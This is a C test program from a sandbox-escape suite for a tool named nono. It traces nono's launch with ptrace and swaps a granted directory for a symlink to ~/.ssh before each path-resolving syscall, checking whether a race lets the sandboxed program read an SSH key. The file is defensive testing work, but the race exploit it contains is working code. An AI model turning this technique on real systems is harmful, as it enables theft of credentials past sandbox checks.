/*
 * F-10: f10_swapped_grant NONO MODE: exchange a granted directory for a symlink to ~/.ssh while
 * nono is starting. No luck is involved: this program traces nono and everything it starts,
 * counts the system calls that name the directory, and makes the exchange just before the k-th,
 * for every k. The program inside then tries to read the key through the granted name. Whatever
 * nono checked, it must be the same object that it grants. (The exchange comes before any check at
 * k = 1 and is refused as a grant of ~/.ssh; later it is refused as another object.)
 *
 * ESC_HOME/.ssh/key says "secret"; the granted directory holds a `key` that says "public".
 */
#include "tests/escape/attack.h"

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "tests/harness/patience.h"

#define MARK "swapped-grant"

enum { POINTS_MAX = 400, TRACE_SECONDS = 20 };

struct attempt {
	unsigned int point; /* exchange before this one; 0: never */
	unsigned int seen;
	bool started; /* the program itself runs: the launch is over */
	char output[256];
};

static char grant[PATH_MAX], aside[PATH_MAX], target[PATH_MAX], key[PATH_MAX];

static void
reset_tree(void)
{
	int fd;

	(void)unlink(grant);
	if (rename(aside, grant) == -1 && errno != ENOENT)
		exit(3);
	if (mkdir(grant, 0755) == -1 && errno != EEXIST)
		exit(3);
	fd = open(key, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd == -1 || write(fd, "public", 6) != 6)
		exit(3);
	(void)close(fd);
}

static void
exchange(void)
{
	if (rename(grant, aside) == -1 || symlink(target, grant) == -1)
		exit(3);
}

enum named { NAMED_NO, NAMED_YES, NAMED_UNKNOWN };

/*
 * Read a string argument that may be no pointer at all; page by page, it may end anywhere.
 * UNKNOWN: the memory is closed to us, as the broker's is, which is not dumpable.
 */
static enum named
names_grant(pid_t pid, uint64_t address)
{
	char text[PATH_MAX + 1];
	size_t n = 0;

	while (n < PATH_MAX) {
		size_t step = 4096 - (size_t)((address + n) & 4095);
		struct iovec local, remote;

		if (step > PATH_MAX - n)
			step = PATH_MAX - n;
		local = (struct iovec){ text + n, step };
		remote = (struct iovec){ (void *)(uintptr_t)(address + n), step };
		if (process_vm_readv(pid, &local, 1, &remote, 1, 0) != (ssize_t)step)
			return n == 0 && errno == EPERM ? NAMED_UNKNOWN : NAMED_NO;
		if (memchr(text + n, 0, step))
			return strstr(text, MARK) ? NAMED_YES : NAMED_NO;
		n += step;
	}
	return NAMED_NO;
}

/* Where the names cannot be read, every call that resolves a path without opening it counts. */
static bool
resolves_path(uint64_t nr, const uint64_t *args)
{
	switch (nr) {
	case SYS_openat:
		return args[2] & O_PATH;
	case SYS_newfstatat:
		return !(args[3] & AT_EMPTY_PATH);
	case SYS_statx:
		return !(args[2] & AT_EMPTY_PATH);
	case SYS_openat2:
	case SYS_readlinkat:
#ifdef SYS_open
	case SYS_stat:
	case SYS_lstat:
	case SYS_readlink:
#endif
		return true;
	default:
		return false;
	}
}

static bool
is_point(pid_t pid, const struct __ptrace_syscall_info *info)
{
	const uint64_t *args = (const uint64_t *)(const void *)info->entry.args;

	for (size_t i = 0; i < 2; i++) {
		switch (names_grant(pid, args[i])) {
		case NAMED_YES:
			return true;
		case NAMED_UNKNOWN:
			return resolves_path(info->entry.nr, args);
		case NAMED_NO:
			break;
		}
	}
	return false;
}

static bool
runs_program(pid_t pid)
{
	char link[64], name[PATH_MAX];
	ssize_t n;

	(void)snprintf(link, sizeof(link), "/proc/%d/exe", pid);
	n = readlink(link, name, sizeof(name) - 1);
	if (n == -1)
		return false;
	name[n] = 0;
	return strstr(name, "nono") == NULL || strstr(name, "cat") != NULL;
}

static void
on_call(struct attempt *a, pid_t pid)
{
	struct __ptrace_syscall_info info;

	if (a->started || ptrace(PTRACE_GET_SYSCALL_INFO, pid, sizeof(info), &info) == -1 ||
	    info.op != PTRACE_SYSCALL_INFO_ENTRY)
		return;
	if (is_point(pid, &info) && ++a->seen == a->point)
		exchange();
}

static void
follow(struct attempt *a)
{
	int status;
	pid_t pid;

	while ((pid = waitpid(-1, &status, __WALL)) > 0 || errno == EINTR) {
		long deliver = 0;

		if (pid <= 0 || !WIFSTOPPED(status))
			continue;
		if (WSTOPSIG(status) == (SIGTRAP | 0x80))
			on_call(a, pid);
		else if (status >> 8 == (SIGTRAP | PTRACE_EVENT_EXEC << 8))
			a->started = a->started || runs_program(pid);
		else if (status >> 16 == 0 && WSTOPSIG(status) != SIGSTOP)
			deliver = WSTOPSIG(status);
		(void)ptrace(a->started ? PTRACE_CONT : PTRACE_SYSCALL, pid, NULL, deliver);
	}
}

static void
try_launch(struct attempt *a, const char *nono, const char *mode)
{
	const long options = PTRACE_O_TRACESYSGOOD | PTRACE_O_TRACEFORK | PTRACE_O_TRACEVFORK |
			     PTRACE_O_TRACECLONE | PTRACE_O_TRACEEXEC | PTRACE_O_EXITKILL;
	int out[2], status;
	ssize_t n;
	pid_t pid;

	reset_tree();
	if (pipe2(out, O_CLOEXEC) == -1)
		exit(3);
	pid = fork();
	if (pid == -1)
		exit(3);
	if (pid == 0) {
		(void)dup2(out[1], 1);
		if (ptrace(PTRACE_TRACEME, 0, NULL, NULL) == -1)
			_exit(3);
		(void)raise(SIGSTOP);
		(void)execl(nono, nono, mode, "-s", "--allow-cwd", "--read", grant, "--",
			    "/bin/cat", key, (char *)NULL);
		_exit(3);
	}
	(void)close(out[1]);
	if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status) ||
	    ptrace(PTRACE_SETOPTIONS, pid, NULL, options) == -1 ||
	    ptrace(PTRACE_SYSCALL, pid, NULL, NULL) == -1)
		exit(3);
	(void)alarm(TRACE_SECONDS * patience());
	follow(a);
	(void)alarm(0);
	n = read(out[0], a->output, sizeof(a->output) - 1);
	a->output[n > 0 ? n : 0] = 0;
	(void)close(out[0]);
}

int
main(int argc, char **argv)
{
	unsigned int points, hits = 0;
	struct attempt plain = { 0 };

	if (argc != 3)
		return 2;
	(void)snprintf(grant, sizeof(grant), "%s/" MARK, attack_env("ESC_OUT"));
	(void)snprintf(aside, sizeof(aside), "%s/aside", attack_env("ESC_OUT"));
	(void)snprintf(key, sizeof(key), "%s/" MARK "/key", attack_env("ESC_OUT"));
	(void)snprintf(target, sizeof(target), "%s/.ssh", attack_env("ESC_HOME"));

	try_launch(&plain, argv[1], argv[2]);
	errno = EACCES;
	attack_twin("unchanged", strcmp(plain.output, "public") == 0);
	points = plain.seen;
	if (points == 0 || points > POINTS_MAX) {
		attack_effect("points", true, ""); /* nothing was traced: never a pass */
		return 0;
	}
	for (unsigned int k = 1; k <= points; k++) {
		struct attempt a = { .point = k };

		try_launch(&a, argv[1], argv[2]);
		if (strcmp(a.output, "secret") == 0) {
			fprintf(stderr, "hit: exchanged before call %u of %u\n", k, points);
			hits++;
		}
	}
	reset_tree();
	fprintf(stderr, "%u points, %u hits\n", points, hits);
	attack_effect("swap", hits > 0, "no-hit");
	return 0;
}
